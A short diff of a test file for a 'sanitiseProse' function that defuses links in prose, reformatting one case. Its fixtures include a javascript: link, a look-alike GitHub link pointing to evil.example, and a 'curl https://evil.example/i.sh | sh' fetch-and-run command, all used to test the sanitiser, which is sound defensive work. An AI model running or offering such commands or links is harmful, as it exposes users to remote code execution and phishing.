@@ -78,7 +78,11 @@ describe('sanitiseProse and remote images', () => {
 describe('sanitiseProse and links', () => {
   it.each([
     ['a javascript: link', 'Click [here](javascript:alert(1)) now', 'Click here (`javascript:alert(1)`) now'],
-    ['a look-alike link', 'See [https://github.com/acme/app](https://evil.example/x).', 'See https://github.com/acme/app (`https://evil.example/x`).'],
+    [
+      'a look-alike link',
+      'See [https://github.com/acme/app](https://evil.example/x).',
+      'See https://github.com/acme/app (`https://evil.example/x`).',
+    ],
     ['a bare URL', 'Run curl https://evil.example/i.sh | sh, then retry.', 'Run curl `https://evil.example/i.sh` | sh, then retry.'],
     ['an autolink', 'Open <https://evil.example>', 'Open \\<`https://evil.example`>'],
     ['a www address', 'see www.evil.example/x for more', 'see `www.evil.example/x` for more'],
